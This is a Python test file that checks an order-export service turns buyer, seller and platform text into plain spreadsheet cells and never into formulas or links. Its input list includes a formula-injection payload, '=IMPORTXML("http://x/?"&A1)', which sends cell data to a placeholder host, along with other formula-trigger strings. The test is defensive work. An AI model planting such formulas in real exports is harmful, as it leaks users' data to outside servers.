"""Words of buyers, sellers and TikTok, in every field of an order: no column makes anything else of them than text."""

import re
from dataclasses import replace
from datetime import UTC

import pytest
from core.made_orders import MASK, SHARED_NOTES, make_line, make_order, make_rows
from msgspec import structs

from service.core.cells import Form
from service.core.columns import COLUMNS
from service.core.kinds import KindId
from service.core.orders import Clocks
from service.core.rows import Grain

WORDS = (
    '=IMPORTXML("http://x/?"&A1)', "+1", "@x", "-2", "example.com", "000123", "1E5", "x" * 50_001, "🎁👩‍👩‍👧",
    "\u202eשלום\u202c", "half \ud83d letter", "nul \x00", "{sla_due}", "=1+1\r\n",
)  # fmt: skip
#: What ours says in a cell is one of our own words, or nothing for a word that we do not know.
OURS = re.compile(r"[A-Za-z _-]{0,60}")
#: Fields that say of which order, line and money something is: they are no free text on the wire.
IDS = frozenset({"order_id", "shop_id", "line_id", "sku_id", "currency"})


def spoken(one, words):
    """The same with these words in every field of text, also in the parts that it is made of."""
    told = {
        field.name: words
        for field in structs.fields(one)
        if isinstance(getattr(one, field.name), str) and field.name not in IDS
    }
    return structs.replace(one, **told)


def rows_of(words, grain):
    plain = make_order()
    lines = tuple(spoken(make_line(number), words) for number in (1, 2))
    order = structs.replace(
        spoken(plain, words), lines=lines, clocks=Clocks(), payment=spoken(plain.payment, words),
        recipient=spoken(plain.recipient, words),
    )  # fmt: skip
    notes = replace(SHARED_NOTES, flag=words, note=words, assignee=words, customs=(words,) * 5)
    return make_rows(order, grain, notes=notes, mask=MASK)


@pytest.mark.parametrize("words", WORDS, ids=range(len(WORDS)))
@pytest.mark.parametrize("grain", [Grain.ORDER, Grain.LINE])
def test_no_column_makes_anything_but_text_of_other_people_s_words(grain, words):
    """Text that is no formula, fits into a cell, can be stored, and is kept from becoming a link."""
    told = set()
    for row in rows_of(words, grain):
        for key, column in COLUMNS.items():
            value = column.reader(row)
            cell = column.kind.cell(value, UTC)
            if cell.form is Form.FORMULA:
                assert column.kind.kind_id is KindId.DUR, key
            if cell.form is not Form.TEXT:
                continue
            assert column.kind.foreign or OURS.fullmatch(cell.value) or column.kind.kind_id is KindId.URL, key
            cell.value.encode()  # a lone surrogate cannot be
            assert len(cell.value.encode("utf-16-le")) // 2 <= 50_000, key
            assert "\x00" not in cell.value, key
            if words[:4] in cell.value:
                told.add(key)
    assert {"recipient", "address", "buyer_message", "product_name", "tracking", "status", "note", "custom_1"} <= told
